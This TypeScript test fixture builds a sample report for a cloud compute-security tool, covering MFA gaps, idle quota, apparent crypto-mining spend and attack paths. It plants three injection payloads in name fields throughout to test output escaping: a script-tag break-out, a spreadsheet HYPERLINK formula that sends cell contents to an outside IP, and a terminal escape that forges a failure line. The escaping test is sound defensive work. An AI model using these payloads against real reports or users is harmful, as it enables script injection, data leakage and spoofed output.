import type { Rule } from "../../catalogue/outcome";
import type { Report } from "../../posture/report/model";

/** Names that a tenant may really hold, and that would run, break out or forge a line where they are printed raw. */
export const hostile = {
  markup: `</script><img src=x onerror="document.title='owned'">`,
  formula: `=HYPERLINK("https://198.51.100.7/?"&A1,"open")`,
  terminal: "red\u001b[31m\nFAIL critical forged line",
};

const rule = (id: string, severity: Rule["severity"], control: string, formerIds?: readonly string[]): Rule => ({
  id,
  ...(formerIds && { formerIds }),
  severity,
  control,
  title: `${id} is healthy`,
  faultTitle: `${id} is broken`,
  why: "A stolen account is worth what it can create.",
  fix: "Take the right away.",
});

const dana = { kind: "user", id: "00000000-0000-0000-0000-0000000000d1", name: hostile.markup } as const;
const group = {
  kind: "resource",
  id: "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg one/providers/Microsoft.Compute/virtualMachineScaleSets/x",
  name: hostile.formula,
  scope: "/subscriptions/00000000-0000-0000-0000-000000000001",
} as const;

/** One outcome of each status, each with what only it can hold. */
export const sample: Report = {
  schema: "computeguard/report/1",
  tool: { name: "computeguard", version: "0.1.0" },
  collectedAt: "2026-11-24T06:00:00Z",
  tenant: { id: "00000000-0000-0000-0000-00000000c0de", name: "Contoso" },
  cloud: "AzureGovernment",
  subscriptions: [{ id: "00000000-0000-0000-0000-000000000001", name: "Contoso Production" }],
  coverage: {
    auditor: { id: "00000000-0000-0000-0000-0000000000aa", name: hostile.markup, kind: "user" },
    estate: { name: hostile.terminal, sha256: "ab".repeat(32) },
    subscriptions: {
      seen: 1,
      of: 2,
      chosen: false,
      inactive: [],
      unseen: [{ id: "00000000-0000-0000-0000-000000000002", name: hostile.formula }],
    },
    sources: [
      { kind: "users", title: "users", rows: 2, status: "whole" },
      { kind: "quota", title: "compute quota", rows: 3, status: "part" },
      { kind: "registrations", title: "MFA registrations", rows: 0, status: "unread" },
    ],
  },
  summary: {
    status: "fail",
    findings: { low: 0, medium: 0, high: 1, critical: 1 },
    checks: { pass: 1, fail: 1, unknown: 1 },
    excepted: 1,
    unknowns: 1,
    gaps: 1,
  },
  idleQuota: [
    {
      service: "Microsoft.Compute",
      family: hostile.markup,
      pool: "family",
      region: "westeurope",
      accelerator: true,
      vCpus: { is: "exact", value: 96 },
      usdPerDay: { is: "exact", value: 900 },
    },
    {
      service: "Microsoft.Batch",
      family: "Standard DSv5 Family",
      pool: "spot",
      region: hostile.terminal,
      accelerator: false,
      vCpus: { is: "atLeast", value: 4 },
      usdPerDay: { is: "unknown" },
    },
  ],
  acts: [
    {
      id: "secureAccount",
      stage: "revoke",
      says: "Sign out and block the account",
      effort: "minutes",
      learn: "https://learn.microsoft.com/entra/identity/users/users-revoke-access",
      usdPerDay: { is: "atLeast", value: 1234 },
      severity: "critical",
      findings: ["f1"],
      targets: [
        {
          kind: "user",
          id: dana.id,
          name: hostile.markup,
          usdPerDay: { is: "atLeast", value: 1234 },
          severity: "critical",
          findings: ["f1"],
          commands: [{ shell: "powershell", line: `Revoke-MgUserSignInSession -UserId '${dana.id}'` }],
        },
        {
          kind: "user",
          id: "00000000-0000-0000-0000-0000000000d2",
          name: hostile.terminal,
          severity: "high",
          findings: [],
          commands: [],
        },
      ],
    },
  ],
  outcomes: [
    {
      rule: rule("compute-creator-without-mfa", "critical", "mfa-compute-creators", ["orderer-without-mfa"]),
      status: "fail",
      population: { is: "each", of: "people who can create compute", examined: 340, faulty: 2, unknown: 0 },
      findings: [
        {
          rule: "compute-creator-without-mfa",
          severity: "critical",
          subject: dana,
          message: "can create machines on Contoso Production without MFA",
          proof: [hostile.terminal, "Virtual Machine Contributor, direct"],
          at: "2026-11-23T11:04:00.000Z",
          fingerprint: "a1b2c3d4e5f60718",
        },
        {
          rule: "compute-creator-without-mfa",
          severity: "high",
          subject: group,
          message: hostile.formula,
          path: "sku.name",
          proof: [],
          by: [{ ...dana, id: "00000000-0000-0000-0000-0000000000d3" }],
          fingerprint: "b1b2c3d4e5f60718",
        },
      ],
      unknowns: [],
      gaps: [],
    },
    {
      rule: rule("account-without-mfa", "medium", "mfa-coverage"),
      status: "unknown",
      population: { is: "each", of: "people of this directory", examined: 340, faulty: 0, unknown: 1 },
      findings: [],
      unknowns: [{ rule: "account-without-mfa", subject: dana, why: "the registration could not be read" }],
      gaps: [{ what: "MFA registration of all users", missing: "AuditLog.Read.All", reason: "denied" }],
    },
    {
      rule: rule("standing-root-access", "critical", "elevate-access"),
      status: "pass",
      population: { is: "each", of: "role assignments", examined: 812, faulty: 0, unknown: 0 },
      findings: [],
      unknowns: [],
      gaps: [],
    },
  ],
  excepted: [
    {
      finding: {
        rule: "compute-creator-without-mfa",
        severity: "critical",
        subject: { ...dana, id: "00000000-0000-0000-0000-0000000000d2" },
        message: "can create machines on Contoso Sandbox without MFA",
        proof: [],
        fingerprint: "c1b2c3d4e5f60718",
      },
      exception: {
        rule: "compute-creator-without-mfa",
        resource: "00000000-0000-0000-0000-0000000000d2",
        reason: hostile.formula,
        owner: hostile.markup,
        until: "2026-12-31",
      },
    },
  ],
  idleExceptions: [
    {
      exception: {
        rule: "standing-root-access",
        resource: hostile.markup,
        reason: "a break-glass account",
        owner: "security@contoso.com",
        until: "2026-10-31",
      },
      why: "ended",
    },
  ],
  compliance: [
    {
      id: "mcsb",
      name: "Microsoft cloud security benchmark",
      version: "v1",
      requirements: [
        { id: "IM-6", title: "Strong authentication", status: "fail", rules: ["compute-creator-without-mfa"] },
        { id: "PA-1", title: "Few privileged users", status: "pass", rules: ["standing-root-access"] },
      ],
    },
  ],
  gaps: [{ what: "MFA registration of all users", missing: "AuditLog.Read.All", reason: "denied" }],
  grants: [
    {
      gives: ["AuditLog.Read.All"],
      at: [],
      reads: [hostile.markup],
      commands: [{ shell: "powershell", line: "New-MgServicePrincipalAppRoleAssignment" }],
    },
    {
      gives: ["Microsoft.Compute/skus/read"],
      at: ["/subscriptions/00000000-0000-0000-0000-000000000001"],
      reads: ["what is sold"],
      commands: [{ shell: "bash", line: `az role assignment create --role '${hostile.markup}'` }],
    },
    { gives: ["Policy.Read.All"], at: [], reads: ["policies"], commands: [] },
  ],
  burning: {
    machines: { is: "atLeast", value: 4 },
    gpus: { is: "atLeast", value: 4 },
    usdPerDay: { is: "atLeast", value: 512.25 },
    spotUsdPerDay: { is: "exact", value: 0 },
    undated: { is: "exact", value: 0 },
    megahashesPerSecond: { is: "exact", value: 100.4 },
    since: "2026-11-01T03:00:00.000Z",
    regions: [
      {
        region: "japaneast",
        machines: { is: "exact", value: 4 },
        gpus: { is: "exact", value: 4 },
        usdPerDay: { is: "exact", value: 512.25 },
        spotUsdPerDay: { is: "exact", value: 0 },
        undated: { is: "exact", value: 0 },
        megahashesPerSecond: { is: "exact", value: 100.4 },
        since: "2026-11-01T03:00:00.000Z",
      },
    ],
    resources: [
      {
        id: group.id,
        name: hostile.formula,
        subscription: "00000000-0000-0000-0000-000000000001",
        region: "japaneast",
        sizes: ["Standard_NC64as_T4_v3"],
        machines: { is: "exact", value: 4 },
        gpus: { is: "exact", value: 4 },
        usdPerDay: { is: "exact", value: 512.25 },
        spotUsdPerDay: { is: "exact", value: 0 },
        undated: { is: "exact", value: 0 },
        megahashesPerSecond: { is: "exact", value: 100.4 },
        since: "2026-11-01T03:00:00.000Z",
      },
    ],
    excepted: [
      {
        id: `${group.id}-2`,
        name: hostile.markup,
        subscription: "00000000-0000-0000-0000-000000000001",
        region: "westeurope",
        sizes: ["Standard_NC64as_T4_v3"],
        exceptions: [
          {
            rule: "unapproved-gpu-size",
            resource: "**",
            reason: hostile.formula,
            owner: hostile.markup,
            until: "2026-12-31",
          },
        ],
        machines: { is: "exact", value: 1 },
        gpus: { is: "exact", value: 4 },
        usdPerDay: { is: "exact", value: 104.45 },
        spotUsdPerDay: { is: "exact", value: 0 },
        undated: { is: "exact", value: 1 },
      },
    ],
    unread: ["compute that could not be read"],
  },
  capacityCreated: {
    from: "2026-08-26T06:00:00.000Z",
    days: [
      { at: "2026-11-20T00:00:00.000Z", by: "others", region: "westeurope", vCpus: 16, machines: 4, unsized: 0 },
      { at: "2026-11-23T00:00:00.000Z", by: "people", region: hostile.markup, vCpus: 128, machines: 2, unsized: 0 },
      { at: "2026-11-23T00:00:00.000Z", by: "people", region: "japaneast", vCpus: 64, machines: 3, unsized: 2 },
    ],
    hours: {
      from: "2026-11-23T05:00:00.000Z",
      rows: [
        { at: "2026-11-23T11:00:00.000Z", by: "people", region: hostile.markup, vCpus: 128, machines: 2, unsized: 0 },
        { at: "2026-11-23T12:00:00.000Z", by: "people", region: "japaneast", vCpus: 64, machines: 3, unsized: 2 },
      ],
    },
    marks: [
      {
        at: "2026-11-23T11:04:00.000Z",
        kind: "burst",
        rule: "compute-creator-without-mfa",
        fingerprint: "a1b2c3d4e5f60718",
      },
    ],
    olderMarks: 0,
    unread: [hostile.terminal],
  },
  tenantBlast: {
    identities: 1,
    subscriptions: ["00000000-0000-0000-0000-000000000001"],
    usdPerDay: { is: "atLeast", value: 8123.5 },
    spotUsdPerDay: { is: "atMost", value: 640 },
    gpus: { is: "atLeast", value: 16 },
    megahashesPerSecond: { is: "atLeast", value: 1400 },
    vCpus: { is: "atLeast", value: 384 },
    unread: ["quota of Microsoft.Batch"],
  },
  firstAlarm: {
    usd: { is: "atLeast", value: 112.83 },
    usdPerHour: { is: "atLeast", value: 338.48 },
    minutes: { is: "atMost", value: 20 },
    principal: { id: dana.id, name: hostile.markup },
    rule: {
      what: "activity log alert",
      name: hostile.terminal,
      latency: { every: 0, delay: 0, ingestion: 20 },
    },
    subscriptions: ["00000000-0000-0000-0000-000000000001", "00000000-0000-0000-0000-000000000002"],
    unwatched: ["00000000-0000-0000-0000-000000000002"],
    open: [],
    defender: "yes",
  },
  blastRadius: [
    {
      principal: { id: dana.id, name: hostile.markup, kind: "user" },
      subscriptions: ["00000000-0000-0000-0000-000000000001"],
      capabilities: [
        {
          capability: "createCompute",
          on: ["Microsoft.Batch"],
          how: `${hostile.markup} at /subscriptions/00000000-0000-0000-0000-000000000001`,
        },
        {
          capability: "runCode",
          subscriptions: [],
          on: ["machines"],
          how: `owns group ${hostile.markup}`,
          conditional: true,
        },
        { capability: "raiseQuota", how: hostile.markup, later: true },
      ],
      usdPerDay: { is: "atLeast", value: 8123.5 },
      spotUsdPerDay: { is: "atMost", value: 640 },
      gpus: { is: "atLeast", value: 16 },
      megahashesPerSecond: { is: "atLeast", value: 1400 },
      vCpus: { is: "atLeast", value: 384 },
      unread: ["quota of Microsoft.Batch"],
      roads: {
        count: 12,
        shown: [
          { edges: [`is a member of group ${hostile.markup}`, "Owner at /"], weakest: 0 },
          { edges: [hostile.terminal] },
        ],
        ends: 11,
        usdPerDay: { is: "atLeast", value: 8000 },
        removal: `take ${hostile.markup} out of it`,
      },
      defence: "MFA not registered",
      defended: false,
    },
  ],
};
